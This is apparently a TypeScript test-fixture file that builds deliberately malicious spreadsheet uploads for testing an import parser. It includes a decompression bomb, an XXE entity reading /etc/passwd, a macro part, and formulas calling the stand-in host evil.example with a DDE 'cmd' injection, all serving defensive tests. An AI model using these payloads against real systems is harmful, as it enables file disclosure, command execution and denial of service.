/** Spreadsheets that are made to do harm, as a company might be sent them. */
import { strToU8, zipSync } from 'fflate';
import type { File } from './companies.ts';

const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
const RELATIONS = '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>';
const BOOK = '<workbook xmlns:r="x"><sheets><sheet name="Cards" r:id="rId1"/></sheets></workbook>';

const zipped = (name: string, parts: Readonly<Record<string, string>>): File => ({
  name,
  mimeType: XLSX,
  buffer: Buffer.from(zipSync(Object.fromEntries(Object.entries(parts).map(([path, xml]) => [path, strToU8(xml)])))),
});

const workbook = (name: string, rows: string, more: Readonly<Record<string, string>> = {}): File =>
  zipped(name, {
    'xl/workbook.xml': BOOK,
    'xl/_rels/workbook.xml.rels': RELATIONS,
    'xl/worksheets/sheet1.xml': `<worksheet><sheetData>${rows}</sheetData></worksheet>`,
    ...more,
  });

const text = (value: string): string => `<c t="inlineStr"><is><t>${value}</t></is></c>`;
const HEADER = `<row r="1">${text('Montant')}${text('E-mail')}</row>`;
const CARD = `<row r="2">${text('50')}${text('ines@example.fr')}</row>`;

/** More than a hundred times its packed size, and more than may be unpacked. */
export const bomb = (): File => workbook('bomb.xlsx', HEADER, { 'xl/worksheets/sheet1.xml': ' '.repeat(60 * 2 ** 20) });

export const withEntities = (): File =>
  workbook('entities.xlsx', HEADER, {
    'xl/workbook.xml': `<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>${BOOK}`,
  });

export const withMacros = (): File => workbook('macros.xlsx', HEADER + CARD, { 'xl/vbaProject.bin': 'x' });

/** Its string is not in the table of strings. */
export const withBrokenStrings = (): File =>
  workbook('strings.xlsx', '<row r="1"><c t="s"><v>9</v></c></row>', { 'xl/sharedStrings.xml': '<sst/>' });

export const cutShort = (): File => {
  const { buffer, ...file } = workbook('cut.xlsx', HEADER + CARD);
  return { ...file, name: 'cut.xlsx', buffer: buffer.subarray(0, buffer.length / 2) };
};

export const ofAMillionColumns = (): File => ({
  name: 'wide.csv',
  mimeType: 'text/csv',
  buffer: Buffer.from('a,'.repeat(1_000_000)),
});

/** A card behind a formula that wants to be run, and links to another place. */
export const withFormulasAndLinks = (): File =>
  workbook(
    'formulas.xlsx',
    `${HEADER}<row r="2"><c r="A2" t="str"><f>HYPERLINK("https://evil.example/","x")</f><v>50</v></c><c r="B2" t="str"><f>WEBSERVICE("https://evil.example/")</f><v>=cmd|' /C calc'!A0</v></c></row>`,
    {
      'xl/worksheets/_rels/sheet1.xml.rels':
        '<Relationships><Relationship Id="rId1" Target="https://evil.example/" TargetMode="External"/></Relationships>',
    },
  );

export const harmless = (): File => workbook('good.xlsx', HEADER + CARD);
